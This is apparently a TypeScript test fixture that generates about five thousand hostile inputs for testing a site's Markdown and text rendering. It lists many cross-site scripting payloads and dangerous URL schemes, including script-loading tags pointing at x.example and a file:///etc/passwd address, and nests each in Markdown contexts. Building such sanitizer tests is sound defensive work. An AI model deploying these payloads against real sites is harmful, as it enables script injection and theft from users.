/*
 * Hostile texts for the tests of prose and of every page that shows a text. Written here; `hostileTexts()` crosses the
 * payloads with the places of a Markdown text where a parser might forget itself.
 */

const call = "window.__xss=1";

/** Things that run in a browser when they come through raw. */
export const payloads: readonly string[] = [
  `<script>${call}</script>`, `<SCRIPT SRC=//x.example/a.js></SCRIPT>`, `<script\n>${call}</script\n>`, `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script>`, `<script>//<!--\n${call}//--></script>`, `</script><script>${call}</script>`, `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`, `<img src="x" onerror="${call}">`, `<img/src=x/onerror=${call}>`, `<img src=x onerror\n=\n${call}>`, `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<img src=x:x onerror&#61;${call}>`, `<img src=1 href=1 onerror="${call}"></img>`, `<image src=x onerror=${call}>`, `<img srcset=x onerror=${call}>`,
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`, `<math href="javascript:${call}">x</math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe/onload=${call}>`,
  `<object data="javascript:${call}"></object>`, `<object data="data:text/html,<script>${call}</script>">`, `<embed src="javascript:${call}">`,
  `<applet code=x></applet>`, `<base href="javascript:/*">`, `<link rel=stylesheet href="//x.example/x.css">`, `<link rel=import href="data:text/html,x">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta charset=utf-7>+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<style>@import "//x.example/x.css";</style>`, `<style>*{background:url(javascript:${call})}</style>`, `<div style="background:url(javascript:${call})">x</div>`,
  `<div style="width:expression(${call})">x</div>`, `<p style="animation-name:x" onanimationstart="${call}">x</p>`,
  `<body onload=${call}>`, `<body background="javascript:${call}">`, `<frameset onload=${call}>`, `<bgsound src="javascript:${call}">`,
  `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`, `<keygen autofocus onfocus=${call}>`,
  `<button onclick=${call}>x</button>`, `<button form=x formaction="javascript:${call}">x</button>`, `<form action="javascript:${call}"><input type=submit>`,
  `<isindex type=image src=x onerror=${call}>`, `<details open ontoggle=${call}>x</details>`, `<dialog open onclose=${call}>x</dialog>`,
  `<video src=x onerror=${call}></video>`, `<video><source onerror="${call}"></video>`, `<audio src=x onerror=${call}>`, `<track onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`, `<a href="javascript:${call}">x</a>`, `<a href="java\tscript:${call}">x</a>`, `<a href="&#106;avascript:${call}">x</a>`,
  `<a href="javascript&colon;${call}">x</a>`, `<a href=\x01javascript:${call}>x</a>`.replace("\x01", ""), `<a onmouseover="${call}">x</a>`, `<a href="//x.example" target=_blank>x</a>`,
  `<area shape=rect href="javascript:${call}">`, `<table background="javascript:${call}"><td>x`, `<td background="javascript:${call}">`,
  `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<xmp><img src=x onerror=${call}></xmp>`,
  `<title><img src=x onerror=${call}></title>`, `<plaintext><img src=x onerror=${call}>`, `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<custom-element onclick=${call} tabindex=0 autofocus onfocus=${call}>x</custom-element>`, `<x contenteditable onblur=${call}>x</x>`,
  `<!--><img src=x onerror=${call}>-->`, `<!-- --!><img src=x onerror=${call}>`, `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`, `<?xml version="1.0"?><script>${call}</script>`, `<!DOCTYPE x [<!ENTITY y "z">]>&y;`,
  `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `" onmouseover="${call}`, `' onmouseover='${call}`, "`-alert(1)-`",
  `--><img src=x onerror=${call}>`, `]]><img src=x onerror=${call}>`, `</p><img src=x onerror=${call}>`, `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</style><script>${call}</script>`, `<<script>${call}//<</script>`, `<\u0000script>${call}</script>`.replace("\u0000", ""),
  `<ſcript>${call}</ſcript>`, `＜script＞${call}＜/script＞`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`, `\\u003cscript\\u003e${call}`, `\${${call}}`, `{{constructor.constructor('${call}')()}}`, `#{${call}}`, `<%= ${call} %>`,
  `\u2028<img src=x onerror=${call}>`, `<img src=x onerror=${call}`, `<div/onpointerrawupdate=${call}>`, `<p id=x></p><form id=test><input name=attributes>`,
  `<a id=defaultView>x</a><a id=location href="javascript:${call}">`, `<img name=getElementById>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}>`,
];

/** Addresses that are no web or mail address. */
export const addresses: readonly string[] = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\\script:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`, `&#x6A;avascript:${call}`,
  `java%0ascript:${call}`, `javascript://x.example/%0a${call}`, `vbscript:msgbox(1)`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${call}>`, `file:///etc/passwd`, `blob:https://x.example/1`, `about:blank`, `//x.example/`, `/admin`, `?x`, `#x`, `../x`, `\\\\x.example`,
  `http://`, `https://a:b@x.example/`, `http:x.example`, `https:\\\\x.example`, `feed:javascript:${call}`, `view-source:javascript:${call}`, `intent://x#Intent;end`,
  `mailto:a@x.example?subject=y&body=z`, `mailto:a@x.example,b@x.example`, `mailto:"><script>`, `ftp://x.example/`, `tel:+33100000000`, `ws://x.example`, `jar:http://x.example!/`,
  `http://x"onmouseover="${call}`, `https://x.example/"onmouseover="${call}`, `https://x.example/'><script>${call}</script>`, `https://x.example/<img>`, `http://[::1]/`, `http://localhost/`,
];

const places: readonly ((text: string) => string)[] = [
  (text) => text, (text) => `Une vie. ${text} Une autre.`, (text) => `*${text}*`, (text) => `**${text}**`, (text) => `> ${text}`, (text) => `- ${text}`, (text) => `1. ${text}`,
  (text) => `# ${text}`, (text) => `${text}\n===`, (text) => `    ${text}`, (text) => `\`${text}\``, (text) => `\`\`\`\n${text}\n\`\`\``, (text) => `\`\`\`${text}\nx\n\`\`\``,
  (text) => `[${text}](https://example.org)`, (text) => `[x](${text})`, (text) => `[x](<${text}>)`, (text) => `[x](https://example.org "${text}")`, (text) => `![${text}](https://example.org/x.png)`,
  (text) => `![x](${text})`, (text) => `[x]: ${text}\n\n[x]`, (text) => `[x]: <${text}> "${text}"\n\n[${text}][x]`, (text) => `<${text}>`, (text) => `|a|${text}|\n|-|-|\n|${text}|b|`, (text) => `- [ ] ${text}`,
  (text) => `~~${text}~~`, (text) => `\\${text}`, (text) => `${text}  \n${text}`, (text) => `<div>\n\n${text}\n\n</div>`, (text) => `<!-- ${text} -->`, (text) => `[^1]: ${text}\n\n[^1]`,
  (text) => `*[${text}](${text})*`, (text) => `> - \`${text}\` **[${text}](javascript:x)**`, (text) => `x\n${text}\n\n${text}\ny`,
];

/** Every payload and address in every place: some five thousand texts. */
export function hostileTexts(): string[] {
  return [...payloads, ...addresses].flatMap((text) => places.map((place) => place(text)));
}
